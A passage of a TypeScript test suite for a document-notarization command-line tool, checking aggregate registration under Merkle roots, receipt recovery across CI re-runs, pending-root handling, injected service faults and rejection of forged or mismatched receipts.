    const results = parseResults(run.stdout);
    expect(results.map((r) => r.status)).toEqual(['failed', 'failed', 'skipped']);
    expect(results[2]).toMatchObject({ hash: c, reason: expect.stringContaining('--fail-fast') });
    expect(run.code).not.toBe(0);
  });

  it('a document named twice with --receipt-dir: one receipt, exit 0', async () => {
    await bed.write('twice/a.txt', 'named twice\n');
    await bed.write('twice/b.txt', 'named once\n');
    const a = bed.path('twice/a.txt');
    const run = await bed.main([
      'register',
      '--aggregate',
      a,
      a,
      bed.path('twice/b.txt'),
      '--receipt-dir',
      bed.path('twice-receipts'),
      '--json',
    ]);
    expect(run.code, describeRun(run)).toBe(0);
    expect(parseResults(run.stdout).map((r) => r.status)).toEqual(['registered', 'registered', 'registered']);
    expect(
      readdirSync(bed.path('twice-receipts'))
        .filter((n) => n.endsWith('.notarization.json'))
        .sort(),
    ).toEqual(['a.txt.notarization.json', 'b.txt.notarization.json']);
  });

  it('a tree the disk refuses (ulimit -f) is exit 2 with nothing sent', async () => {
    for (let i = 0; i < 60; i++)
      await bed.write(`big-tree/doc-${i}.txt`, `document ${i} of a tree too large to save\n`);
    const mark = bed.mark();
    const run = await bed.run(['register', '--aggregate', '-r', bed.path('big-tree')], { shell: 'ulimit -f 8' });
    expect(run.code, describeRun(run)).toBe(2);
    expect(run.stderr).not.toMatch(/unexpected error/);
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('a damaged tree file is restored by copying in the manifest from --receipt-dir', async () => {
    await bed.write('restore/a.txt', 'restore a\n');
    const first = await bed.main([
      'register',
      '--aggregate',
      '-r',
      bed.path('restore'),
      '--receipt-dir',
      bed.path('restore-receipts'),
      '--json',
    ]);
    const root = parseResults(first.stdout)[0]!.proof!.root;
    const treeFile = join(bed.serviceDir(), 'trees', `${root}.json`);
    writeFileSync(treeFile, '{');
    const refused = await bed.main(['register', '--aggregate', '-r', bed.path('restore'), '--json']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`${root}.tree.json of the --receipt-dir`);
    cpSync(bed.path(`restore-receipts/${root}.tree.json`), treeFile);
    const mark = bed.mark();
    const again = await bed.main(['register', '--aggregate', '-r', bed.path('restore'), '--json']);
    expect(again.code, describeRun(again)).toBe(0);
    expect(parseResults(again.stdout)[0]).toMatchObject({ status: 'already-registered', proof: { root } });
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('a root whose request step is answered 409 (its session dropped after a completion that went through) is kept as confirmed', async () => {
    const [a] = await writeDocs('dropped-paid', 'dropped after paid', ['a', 'b']);
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const args = ['register', '--aggregate', '-r', bed.path('dropped-paid'), '--json'];
    const before = new Set(bed.pendingHashes());
    const lost = await bed.main(args);
    expect(lost.code, describeRun(lost)).toBe(4);
    // Its root is the session the run left pending.
    const root = bed.pendingHashes().find((hash) => !before.has(hash))!;
    expect((await bed.main(['pending', 'drop', root])).code).toBe(0);
    let mark = bed.mark();
    const asked = await bed.main(args);
    expect(asked.code, describeRun(asked)).toBe(0);
    expect(countStatuses(parseResults(asked.stdout))).toEqual({ 'already-registered': 2 });
    expect(bed.callsSince(mark).map((call) => [call.route, call.status])).toEqual([['request', 409]]);
    // From then on nothing is asked again, by either mode.
    mark = bed.mark();
    const again = await bed.main(args);
    expect(again.code, describeRun(again)).toBe(0);
    const alone = await bed.main(['register', a!, '--output', 'ndjson']);
    expect(alone.code, describeRun(alone)).toBe(0);
    expect(parseNdjson(alone.stdout)).toMatchObject([{ status: 'already-registered', proof: { root, leafIndex: 0 } }]);
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('a root the service confirmed without a record still gets its manifest, and one warning for all its documents', async () => {
    await bed.write('confirmed/a.txt', 'confirmed a\n');
    await bed.write('confirmed/b.txt', 'confirmed b\n');
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const args = ['register', '--aggregate', '-r', bed.path('confirmed'), '--receipt-dir', bed.path('confirmed-rc')];
    expect((await bed.main([...args, '--json'])).code).toBe(4);
    const second = await bed.main([...args, '--json']);
    expect(second.code, describeRun(second)).toBe(0);
    const root = parseResults(second.stdout)[0]!.proof!.root;
    expect(second.stderr.match(/no new receipts for the documents under root/g)).toHaveLength(1);
    expect(readdirSync(bed.path('confirmed-rc'))).toEqual([`${root}.tree.json`]);
    // show and receipt say what happened, not 'run this where it was registered': it was, here.
    for (const command of ['show', 'receipt']) {
      const run = await bed.main([command, bed.path('confirmed/a.txt')]);
      expect(run.code, describeRun(run)).toBe(6);
      expect(run.stderr).toContain(
        `is registered (${bed.url} answered 409 for the Merkle root ${root} that holds it), but this store never received its record`,
      );
    }
    // Registered on its own: already-registered under that root, nothing sent (--force pays).
    const mark = bed.mark();
    const alone = await bed.main(['register', bed.path('confirmed/b.txt'), '--output', 'ndjson']);
    expect(alone.code, describeRun(alone)).toBe(0);
    expect(parseNdjson(alone.stdout)).toMatchObject([
      { status: 'already-registered', record: null, proof: { root, leafIndex: 1 } },
    ]);
    expect(bed.callsSince(mark)).toEqual([]);
  });
});

/** Writes `<folder>/<name>.txt` for each of `names`, holding `<tag> <name>`; returns their paths, in order. */
/**
 * A store of its own where `register --aggregate` over documents `names` (in the folder `name`)
 * failed on its root's request (exit 4): their tree is only planned, as a CI job's first try leaves it.
 */
async function failedAggregate(name: string, names: string[]) {
  const env = { NOTARIZE_CONFIG_DIR: mkdtempSync(join(bed.root, `${name}-`)) };
  const paths = storePaths(env.NOTARIZE_CONFIG_DIR, bed.url);
  const docs = await writeDocs(name, name, names);
  const hashes = docs.map((path) => createHash('sha256').update(readFileSync(path)).digest('hex'));
  bed.sandbox.addFaults(parseFaults('request:status=500*1'));
  const failed = await bed.main(['register', '--aggregate', ...docs, '--retries', '0', '--quiet'], { env });
  expect(failed.code, describeRun(failed)).toBe(4);
  return { env, paths, docs, hashes, store: new ServiceStore(paths.service, bed.url) };
}

/**
 * `register --aggregate <docs> --json` on the store `env` names, run while another process (this
 * one) holds the lock of the document of digest `digest`: let go once the run's first root is paid.
 */
async function aggregateBesideLock(
  store: ServiceStore,
  digest: string,
  docs: string[],
  env: Record<string, string>,
): Promise<Run> {
  const release = await holdLock(store.lockFile(digest), 0);
  const mark = bed.mark();
  const aggregate = bed.main(['register', '--aggregate', ...docs, '--json'], { env });
  const forfaits = () => bed.callsSince(mark).filter((call) => call.route === 'forfait' && call.status > 0).length;
  for (let i = 0; i < 1000 && forfaits() < 1; i++) await new Promise((resolve) => setTimeout(resolve, 10));
  release();
  return aggregate;
}

/**
 * What another `register --aggregate` does over `digests` (core/aggregate.ts), step by step around a
 * process waiting for the first digest's lock: its tree saved, its root's lock held; then
 * `releaseLock` lets that process take the lock; once it holds it, the root is registered and let
 * go. Returns the root.
 */
async function plantOverWhileLocked(store: ServiceStore, digests: string[], releaseLock: () => void): Promise<string> {
  const tree = plantTree(
    digests.map((sha256, i) => ({ name: `leaf-${i}`, sha256, size: 1 })),
    undefined,
    new Date(),
  );
  await store.saveTree(tree.entry);
  const root = tree.entry.root;
  const releaseRoot = await holdLock(store.lockFile(root), 0);
  releaseLock();
  for (let i = 0; i < 1000 && !store.hasLock(digests[0]!); i++) await new Promise((resolve) => setTimeout(resolve, 10));
  await registerHeldRoot(store, tree, releaseRoot);
  return root;
}

/** Registers the root of `tree`, whose lock `releaseRoot` lets go of afterwards, as an aggregate run does holding it. */
async function registerHeldRoot(store: ServiceStore, tree: LoadedTree, releaseRoot: () => void): Promise<void> {
  const flags = { signed: false, blockchain: 'ALGORAND', complete: true } as const;
  try {
    const deps = { api: sandboxApi(bed), store, heldAcross: new Set([tree.entry.root]) };
    expect(await registerRoot(deps, tree, flags)).toMatchObject({ ok: true });
  } finally {
    releaseRoot();
  }
}

/**
 * Runs the built bin with `args` while this process holds a lock it waits for, and calls `release`
 * once its stderr shows the lock-wait notice (said after 3 s of waiting), or it ended, or after 30 s: a fixed
 * sleep let a run started late on a loaded machine reach the wait too late to be told (CI, Node 24).
 */
async function releasedOnNotice(args: string[], env: Record<string, string>, release: () => void): Promise<Run> {
  const spawned = spawnCli(args, bed.env(env), { cwd: bed.workDir });
  let stderr = '';
  let ended = false;
  spawned.child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
  void spawned.done.finally(() => (ended = true));
  for (let i = 0; i < 600 && !ended && !stderr.includes('waiting for it, up to'); i++) {
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  release();
  const run = await spawned.done;
  bed.record(run);
  return run;
}

async function writeDocs(folder: string, tag: string, names: string[]): Promise<string[]> {
  for (const name of names) await bed.write(`${folder}/${name}.txt`, `${tag} ${name}\n`);
  return names.map((name) => bed.path(`${folder}/${name}.txt`));
}

/** `register --aggregate` over `docs` with --receipt-dir `receipts` and `flags`, on the store `store`; and the calls it made. */
async function onStore(store: string, receipts: string, docs: string[], flags: string[] = []) {
  const mark = bed.mark();
  const run = await bed.main(['register', '--aggregate', ...docs, '--receipt-dir', receipts, ...flags, '--json'], {
    env: { NOTARIZE_CONFIG_DIR: store },
  });
  return { run, calls: bed.callsSince(mark).map((c) => `${c.route}:${c.status}`) };
}

/** A fresh store's CI run over new documents `names` in `folder`, receipts in `<folder>-receipts`: exit 0, and its root. */
async function registeredTree(folder: string, tag: string, names: string[]) {
  const docs = await writeDocs(folder, tag, names);
  const receipts = bed.path(`${folder}-receipts`);
  const first = await onStore(freshStore(), receipts, docs);
  expect(first.run.code, describeRun(first.run)).toBe(0);
  const root = parseResults(first.run.stdout)[0]!.proof!.root;
  return { docs, receipts, first, root };
}

/** A new empty store, as a CI runner starts with. */
const freshStore = () => mkdtempSync(join(bed.root, 'ci-store-'));

/** The roots of the trees in `store`. */
const treesOf = (store: string) =>
  readdirSync(join(storePaths(store, bed.sandbox.url).service, 'trees')).map((name) => name.replace(/\.json$/, ''));

describe("register --aggregate on a store with an unpaid root of its own, beside another store's paid root", () => {
  // A runner that keeps its store (self-hosted, a developer's machine) and one that starts empty share
  // --receipt-dir: the kept store's root must not be paid for documents the other store's root holds.
  it('a planned root (its request step failed) is abandoned: nothing requested or paid, the receipts stay', async () => {
    const docs = await writeDocs('unpaid-planned', 'kept runner, planned:', ['a', 'b']);
    const receipts = bed.path('unpaid-planned-receipts');
    const kept = freshStore();
    bed.sandbox.addFaults(parseFaults('request:status=503*1'));
    const failed = await onStore(kept, receipts, docs, ['--retries', '0']);
    expect(failed.run.code, describeRun(failed.run)).toBe(4);
    const [planned] = treesOf(kept);
    const other = await onStore(freshStore(), receipts, docs);
    expect(other.run.code, describeRun(other.run)).toBe(0);
    const paid = parseResults(other.run.stdout)[0]!.proof!.root;
    const before = readdirSync(receipts).map((name) => readFileSync(join(receipts, name), 'utf8'));

    const again = await onStore(kept, receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['request:409']);
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof?.root])).toEqual(
      docs.map(() => ['already-registered', paid]),
    );
    expect(readdirSync(receipts).map((name) => readFileSync(join(receipts, name), 'utf8'))).toEqual(before);
    // The planned tree is let go: a later run asks nothing more of it.
    expect(existsSync(join(storePaths(kept, bed.sandbox.url).service, 'trees', `${planned}.json`))).toBe(false);
  });

  it('a pending root (its completion failed) whose documents the service has elsewhere: retired, never paid', async () => {
    const docs = await writeDocs('unpaid-pending', 'kept runner, pending:', ['a', 'b']);
    const receipts = bed.path('unpaid-pending-receipts');
    const kept = freshStore();
    bed.sandbox.addFaults(parseFaults('forfait:status=503*1'));
    const failed = await onStore(kept, receipts, docs, ['--retries', '0']);
    expect(failed.run.code, describeRun(failed.run)).toBe(4);
    const [pending] = treesOf(kept);
    // The other store does not ask about the kept store's pending root: it holds its documents alone here.
    rmSync(join(receipts, `${pending}.tree.json`));
    const other = await onStore(freshStore(), receipts, docs);
    expect(other.run.code, describeRun(other.run)).toBe(0);
    const paid = parseResults(other.run.stdout)[0]!.proof!.root;

    const again = await onStore(kept, receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['request:409']);
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof?.root])).toEqual(
      docs.map(() => ['already-registered', paid]),
    );
    expect(again.run.stderr).toContain(
      `warning: root ${pending} was pending in this store, but the service has all its documents under other roots`,
    );
    // Retired, its tree let go: a later complete --all has nothing to pay for.
    const paths = storePaths(kept, bed.sandbox.url);
    expect(existsSync(paths.pending(pending!))).toBe(false);
    expect(readdirSync(join(paths.service, 'retired')).some((name) => name.startsWith(pending!))).toBe(true);
    expect(treesOf(kept)).toEqual([]);
    const mark = bed.mark();
    const all = await bed.main(['complete', '--all', '--json'], { env: { NOTARIZE_CONFIG_DIR: kept } });
    expect(all.code, describeRun(all)).toBe(0);
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('a pending root with a document the service has nowhere else: not completed by this run, the warning says how to let it go', async () => {
    const docs = await writeDocs('unpaid-partly', 'kept runner, partly elsewhere:', ['a', 'b', 'c']);
    const receipts = bed.path('unpaid-partly-receipts');
    const kept = freshStore();
    bed.sandbox.addFaults(parseFaults('forfait:status=503*1'));
    expect((await onStore(kept, receipts, docs, ['--retries', '0'])).run.code).toBe(4);
    const [pending] = treesOf(kept);
    rmSync(join(receipts, `${pending}.tree.json`));
    // The other store registers a and b only.
    const other = await onStore(freshStore(), receipts, docs.slice(0, 2));
    const paid = parseResults(other.run.stdout)[0]!.proof!.root;

    const again = await onStore(kept, receipts, docs.slice(0, 2));
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['request:409']);
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof?.root])).toEqual([
      ['already-registered', paid],
      ['already-registered', paid],
    ]);
    expect(again.run.stderr).toContain(
      `warning: root ${pending} is pending in this store, but the service has its documents of this run under another root`,
    );
    expect(again.run.stderr).toContain(`notarize pending drop ${pending}`);
    expect(existsSync(storePaths(kept, bed.sandbox.url).pending(pending!))).toBe(true);
  });

  it('an ask about the other root that fails says nothing of it: the documents fail, the pending root is kept', async () => {
    const docs = await writeDocs('unpaid-unasked', 'kept runner, ask failed:', ['a', 'b']);
    const receipts = bed.path('unpaid-unasked-receipts');
    const kept = freshStore();
    expect((await onStore(kept, receipts, docs, ['--no-complete'])).run.code).toBe(0);
    const [pending] = treesOf(kept);
    rmSync(join(receipts, `${pending}.tree.json`));
    const other = await onStore(freshStore(), receipts, docs);
    const paid = parseResults(other.run.stdout)[0]!.proof!.root;

    bed.sandbox.addFaults(parseFaults('request:status=503*1'));
    const failed = await onStore(kept, receipts, docs, ['--retries', '0']);
    expect(failed.run.code, describeRun(failed.run)).toBe(4);
    expect(failed.calls).toEqual(['request:503']);
    expect(parseResults(failed.run.stdout).map((r) => r.status)).toEqual(['failed', 'failed']);
    expect(failed.run.stderr).not.toContain('the service has');
    expect(existsSync(storePaths(kept, bed.sandbox.url).pending(pending!))).toBe(true);

    // Asked again once the service answers: under the other root, the pending one retired.
    const again = await onStore(kept, receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['request:409']);
    expect(parseResults(again.run.stdout).map((r) => r.proof?.root)).toEqual([paid, paid]);
    expect(existsSync(storePaths(kept, bed.sandbox.url).pending(pending!))).toBe(false);
  });

  it('a pending root whose completion was answered unreadably (maybe paid) is never retired', async () => {
    const docs = await writeDocs('unpaid-unread', 'kept runner, answer unread:', ['a', 'b']);
    const receipts = bed.path('unpaid-unread-receipts');
    const kept = freshStore();
    bed.sandbox.addFaults(parseFaults('forfait:truncated*1'));
    expect((await onStore(kept, receipts, docs, ['--retries', '0'])).run.code).toBe(5);
    const [pending] = treesOf(kept);
    rmSync(join(receipts, `${pending}.tree.json`));
    const other = await onStore(freshStore(), receipts, docs);
    const paid = parseResults(other.run.stdout)[0]!.proof!.root;

    const again = await onStore(kept, receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['request:409']);
    expect(parseResults(again.run.stdout).map((r) => r.proof?.root)).toEqual([paid, paid]);
    expect(again.run.stderr).toContain(
      `warning: root ${pending} is pending in this store, its last completion answered unreadably`,
    );
    expect(again.run.stderr).not.toContain('retired');
    expect(existsSync(storePaths(kept, bed.sandbox.url).pending(pending!))).toBe(true);
    expect(treesOf(kept)).toEqual([pending]);
    // As the warning says: complete finds out, and the 409 records it.
    const complete = await bed.main(['complete', pending!, '--json'], { env: { NOTARIZE_CONFIG_DIR: kept } });
    expect(complete.code, describeRun(complete)).toBe(0);
    expect(JSON.parse(complete.stdout)).toMatchObject({ status: 'already-registered' });
  });

  it('per-document register does not complete the pending root either: the other root answers', async () => {
    const docs = await writeDocs('unpaid-pending-alone', 'kept runner, pending, then alone:', ['a', 'b']);
    const receipts = bed.path('unpaid-pending-alone-receipts');
    const kept = freshStore();
    bed.sandbox.addFaults(parseFaults('forfait:status=503*1'));
    expect((await onStore(kept, receipts, docs, ['--retries', '0'])).run.code).toBe(4);
    const [pending] = treesOf(kept);
    rmSync(join(receipts, `${pending}.tree.json`));
    const other = await onStore(freshStore(), receipts, docs);
    const paid = parseResults(other.run.stdout)[0]!.proof!.root;

    const mark = bed.mark();
    const alone = await bed.main(['register', ...docs, '--receipt-dir', receipts, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: kept },
    });
    expect(alone.code, describeRun(alone)).toBe(0);
    expect(bed.callsSince(mark).map((c) => `${c.route}:${c.status}`)).toEqual(['request:409']);
    expect(parseResults(alone.stdout).map((r) => [r.status, r.proof?.root])).toEqual(
      docs.map(() => ['already-registered', paid]),
    );
    expect(alone.stderr).toContain(`warning: root ${pending} is pending in this store, but the service has`);
  });
});

describe('register --aggregate on an empty store, beside the manifests of an earlier run (a CI re-run)', () => {
  it('a run stopped while it wrote its receipts: a re-run on a new runner writes the rest from those it wrote (r80)', async () => {
    const { docs, receipts, root } = await registeredTree('ci-cut', 'receipts cut short:', ['a', 'b', 'c', 'd', 'e']);
    const receiptOf = (doc: string) => join(receipts, `${basename(doc)}.notarization.json`);
    const written = docs.map((doc) => readFileSync(receiptOf(doc), 'utf8'));
    const verifyAll = async () => {
      const verify = await bed.main(['verify', '--receipt-dir', receipts, ...docs, '--json'], {
        env: { NOTARIZE_CONFIG_DIR: freshStore(), NOTARIZE_API_KEY: '' },
      });
      return parseResults(verify.stdout).map((r) => r.status);
    };
    // As a run killed after its forfait leaves it: the manifest and the receipts of b and d alone (the record, once).
    const cut = () => [0, 2, 4].forEach((i) => rmSync(receiptOf(docs[i]!)));
    cut();
    expect(await verifyAll()).toEqual(['unknown', 'verified', 'unknown', 'verified', 'unknown']);

    const again = await onStore(freshStore(), receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    // The root asked about (409), nothing paid; every document has its receipt, the same as the first run wrote.
    expect(again.calls).toEqual(['login:200', 'request:409']);
    expect(again.run.stderr).not.toContain('no new receipts');
    // Said once: which receipt the record came from (the first of the tree's leaves with one).
    expect(again.run.stderr.match(/written from the record in/g)).toHaveLength(1);
    expect(again.run.stderr).toContain(
      `under the Merkle root ${root} written from the record in ${receiptOf(docs[1]!)}`,
    );
    const results = parseResults(again.run.stdout);
    expect(results.map((r) => [r.status, r.proof?.root, r.receipt])).toEqual(
      docs.map((doc) => ['already-registered', root, receiptOf(doc)]),
    );
    expect(docs.map((doc) => readFileSync(receiptOf(doc), 'utf8'))).toEqual(written);
    expect(await verifyAll()).toEqual(docs.map(() => 'verified'));

    // Per-document register on a new runner does the same (each document found under the root by its manifest).
    cut();
    const mark = bed.mark();
    const alone = await bed.main(['register', ...docs, '--receipt-dir', receipts, '--output', 'ndjson'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(alone.code, describeRun(alone)).toBe(0);
    expect(bed.callsSince(mark).filter((call) => call.route === 'forfait')).toEqual([]);
    expect(alone.stderr).not.toContain('no receipt written');
    expect(alone.stderr.match(/written from the record in/g)).toHaveLength(1);
    // One document alone, with NDJSON (a batch's path, which tells at its end): told once too (r83).
    rmSync(receiptOf(docs[0]!));
    const one = await bed.main(['register', docs[0]!, '--receipt-dir', receipts, '--output', 'ndjson'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore() },
    });
    expect(one.code, describeRun(one)).toBe(0);
    expect(one.stderr.match(/written from the record in/g)).toHaveLength(1);
    // (NDJSON lines come as documents finish.)
    expect(
      parseNdjson(alone.stdout)
        .map((r) => r.receipt)
        .sort(),
    ).toEqual(docs.map(receiptOf));
    expect(docs.map((doc) => readFileSync(receiptOf(doc), 'utf8'))).toEqual(written);
    expect(await verifyAll()).toEqual(docs.map(() => 'verified'));
  });

  it('a record taken from a receipt is said to be only once a receipt is written from it, and once (r83)', async () => {
    const { docs, receipts, root } = await registeredTree('ci-cut-told', 'receipts cut, told once:', ['a', 'b']);
    const b = join(receipts, `${basename(docs[1]!)}.notarization.json`);
    rmSync(join(receipts, `${basename(docs[0]!)}.notarization.json`));
    const records = new RootRecordsInReceipts(bed.sandbox.url, () => receiptsByDigest(receipts));
    expect(await records.of(root)).toMatchObject({ path: b });
    // Found, but its receipts could not be written (a full disk): nothing claims they were.
    expect(await records.warnings()).toEqual([]);
    records.wrote(root);
    expect(await records.warnings()).toEqual([
      `receipts of documents under the Merkle root ${root} written from the record in ${b} ` +
        '(this store has none: the service sends it once, to the run that paid, which wrote it there)',
    ]);
    expect(await records.warnings()).toEqual([]);
  });

  it('receipts of one root that disagree on its record: none is taken, and the run says which (r82)', async () => {
    const docs = await writeDocs('ci-cut-forged', 'receipts cut, one forged beside:', ['a', 'b', 'c']);
    const receipts = bed.path('ci-cut-forged-receipts');
    expect((await onStore(freshStore(), receipts, docs)).run.code).toBe(0);
    const [a, b] = docs.map((doc) => join(receipts, `${basename(doc)}.notarization.json`));
    rmSync(a!);
    // A copy of b's receipt whose record says otherwise, where docs/ci.md moves earlier attempts' receipts,
    // beside the genuine one.
    const genuine = readFileSync(b!, 'utf8');
    const forged = join(receipts, 'earlier-attempts', '1', `${basename(docs[1]!)}.notarization.json`);
    mkdirSync(dirname(forged), { recursive: true });
    writeFileSync(forged, genuine.replace('"status":"registered"', '"status":"registered","description2":"forged"'));
    expect(readFileSync(forged, 'utf8')).not.toBe(genuine);
    const again = await onStore(freshStore(), receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:409']);
    expect(existsSync(a!)).toBe(false);
    expect(again.run.stderr).toContain(`${b} and ${forged} carry different records of it`);
    expect(again.run.stderr).toContain('no new receipts');

    // One document registered on its own says the same, before the warning of no receipt (r83).
    for (const output of ['table', 'ndjson']) {
      const alone = await bed.main(['register', docs[0]!, '--receipt-dir', receipts, '--output', output], {
        env: { NOTARIZE_CONFIG_DIR: freshStore() },
      });
      expect(alone.code, describeRun(alone)).toBe(0);
      expect(existsSync(a!)).toBe(false);
      const disagree = alone.stderr.indexOf(`${b} and ${forged} carry different records of it`);
      expect(disagree, describeRun(alone)).toBeGreaterThan(-1);
      expect(alone.stderr.indexOf('no receipt written for')).toBeGreaterThan(disagree);
      expect(alone.stderr.match(/carry different records/g)).toHaveLength(1);
    }
  });

  it("a receipt under the root of another service, or whose proof does not lead there, is not taken for the root's record", async () => {
    const docs = await writeDocs('ci-cut-other', 'receipts cut, the one left wrong:', ['a', 'b']);
    const receipts = bed.path('ci-cut-other-receipts');
    expect((await onStore(freshStore(), receipts, docs)).run.code).toBe(0);
    const [a, b] = docs.map((doc) => join(receipts, `${basename(doc)}.notarization.json`));
    rmSync(a!);
    const kept = readFileSync(b!, 'utf8');
    const receipt = JSON.parse(kept) as {
      proof: { leafSalt: string; root: string };
      service: { baseUrl: string };
      record: unknown;
    };
    const recordText = JSON.stringify(receipt.record);
    const withRecord = (record: object) => kept.replace(/"record": \{[^\n]*\}/, `"record": ${JSON.stringify(record)}`);
    expect(withRecord({})).not.toBe(kept);
    for (const changed of [
      kept.replace(receipt.proof.leafSalt, '0'.repeat(64)),
      kept.replaceAll(receipt.service.baseUrl, 'http://127.0.0.1:9'),
      // A record cut down to its hash holds together for verify, but is no record of a completed registration (r82).
      withRecord({ hash: receipt.proof.root }),
      withRecord({ ...(JSON.parse(recordText) as object), status: 'revoked' }),
    ]) {
      writeFileSync(b!, changed);
      const stub = changed.includes('"status":"registered"')
        ? undefined
        : `${b} carries no record of a completed registration`;
      const again = await onStore(freshStore(), receipts, [docs[0]!]);
      expect(again.run.code, describeRun(again.run)).toBe(0);
      expect(again.calls).toEqual(['login:200', 'request:409']);
      expect(parseResults(again.run.stdout)[0]!.receipt ?? null).toBeNull();
      expect(existsSync(a!)).toBe(false);
      expect(again.run.stderr).toContain('no new receipts');
      // The one receipt there is named once, not as two that disagree.
      if (stub !== undefined) expect(again.run.stderr).toContain(stub);
      expect(again.run.stderr).not.toContain(`${b} and ${b}`);
    }
  });

  it('sends the same root again: the 409 says the service has it, nothing is paid, the receipts stay', async () => {
    const { docs, receipts, root } = await registeredTree('ci', 'built in CI:', ['a', 'b', 'c']);
    const before = readdirSync(receipts).map((name) => readFileSync(join(receipts, name), 'utf8'));

    const again = await onStore(freshStore(), receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:409']);
    const results = parseResults(again.run.stdout);
    expect(results.map((r) => [r.status, r.proof?.root])).toEqual(docs.map(() => ['already-registered', root]));
    // Each result names its receipt, kept as it was (a script collecting `.receipt` finds every one).
    expect(results.map((r) => r.receipt)).toEqual(
      docs.map((doc) => join(receipts, `${basename(doc)}.notarization.json`)),
    );
    expect(again.run.stderr).not.toContain('no new receipts');
    expect(readdirSync(receipts).map((name) => readFileSync(join(receipts, name), 'utf8'))).toEqual(before);
    // The receipts of the first run still verify each document, on a store that never saw it.
    const verify = await bed.main(['verify', '--receipt-dir', receipts, ...docs, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore(), NOTARIZE_API_KEY: '' },
    });
    expect(parseResults(verify.stdout).map((r) => r.status)).toEqual(['verified', 'verified', 'verified']);

    // A document added since goes under a new tree of its own, registered once.
    await bed.write('ci/d.txt', 'built in CI: d, new\n');
    const more = await onStore(freshStore(), receipts, [...docs, bed.path('ci/d.txt')]);
    expect(more.run.code, describeRun(more.run)).toBe(0);
    expect(more.calls).toEqual(['login:200', 'request:409', 'request:200', 'forfait:200']);
    const statuses = parseResults(more.run.stdout).map((r) => [r.status, r.proof?.root === root]);
    expect(statuses).toEqual([...docs.map(() => ['already-registered', true]), ['registered', false]]);
    // Every result names its receipt: those kept from the first run, and the new one's.
    expect(parseResults(more.run.stdout).map((r) => r.receipt)).toEqual(
      [...docs, bed.path('ci/d.txt')].map((doc) => join(receipts, `${basename(doc)}.notarization.json`)),
    );
  });

  it('a root completed on another runner (complete --session): its manifest and the record give receipts, nothing sent', async () => {
    const docs = await writeDocs('split', 'split job', ['a', 'b']);
    const receipts = bed.path('split-receipts');
    // Job A leaves the root pending; job B, on another runner, completes it from the session A printed.
    const jobA = await onStore(freshStore(), receipts, docs, ['--no-complete']);
    expect(jobA.run.code, describeRun(jobA.run)).toBe(0);
    const [first] = parseResults(jobA.run.stdout);
    const root = first!.proof!.root;
    const storeB = freshStore();
    const complete = await bed.main(['complete', root, '--session', '-', '--quiet'], {
      env: { NOTARIZE_CONFIG_DIR: storeB },
      input: JSON.stringify(first!.session),
    });
    expect(complete.code, describeRun(complete)).toBe(0);

    // B's store has the root's record, not its tree; the manifest in --receipt-dir has the tree.
    const jobB = await onStore(storeB, receipts, docs);
    expect(jobB.run.code, describeRun(jobB.run)).toBe(0);
    expect(jobB.calls).toEqual([]);
    expect(jobB.run.stderr).not.toContain('no record');
    const results = parseResults(jobB.run.stdout);
    expect(results.map((r) => [r.status, r.proof?.root, r.receipt])).toEqual(
      docs.map((doc) => ['already-registered', root, join(receipts, `${basename(doc)}.notarization.json`)]),
    );
    const verify = await bed.main(['verify', '--receipt-dir', receipts, ...docs, '--json'], {
      env: { NOTARIZE_CONFIG_DIR: freshStore(), NOTARIZE_API_KEY: '' },
    });
    expect(verify.code, describeRun(verify)).toBe(0);
    expect(parseResults(verify.stdout).map((r) => r.status)).toEqual(['verified', 'verified']);

    // B's store now keeps that tree: verify from its ledger, and a document registered on its own pays nothing.
    const fromLedger = await bed.main(['verify', docs[0]!, '--json'], { env: { NOTARIZE_CONFIG_DIR: storeB } });
    expect(fromLedger.code, describeRun(fromLedger)).toBe(0);
    const mark = bed.mark();
    const alone = await bed.main(['register', docs[1]!, '--output', 'ndjson'], {
      env: { NOTARIZE_CONFIG_DIR: storeB },
    });
    expect(alone.code, describeRun(alone)).toBe(0);
    expect(parseNdjson(alone.stdout)[0]).toMatchObject({ status: 'already-registered', proof: { root } });
    expect(bed.callsSince(mark)).toEqual([]);
  });

  it('a completion whose answer was lost: the manifest was written before, so the re-run asks and pays nothing', async () => {
    const docs = await writeDocs('lost', 'lost answer', ['a', 'b']);
    const receipts = bed.path('lost-receipts');
    bed.sandbox.addFaults(parseFaults('forfait:drop-after*1'));
    const first = await onStore(freshStore(), receipts, docs);
    expect(first.run.code, describeRun(first.run)).toBe(4);
    expect(first.calls).toEqual(['login:200', 'request:200', 'forfait:0']);
    const manifests = readdirSync(receipts).filter((name) => name.endsWith('.tree.json'));
    expect(manifests).toHaveLength(1);
    const root = manifests[0]!.slice(0, 64);

    // A fresh runner: no store, only the --receipt-dir kept from the failed job.
    const again = await onStore(freshStore(), receipts, docs);
    expect(again.run.code, describeRun(again.run)).toBe(0);
    expect(again.calls).toEqual(['login:200', 'request:409']);
    expect(parseResults(again.run.stdout).map((r) => [r.status, r.proof?.root])).toEqual([
      ['already-registered', root],
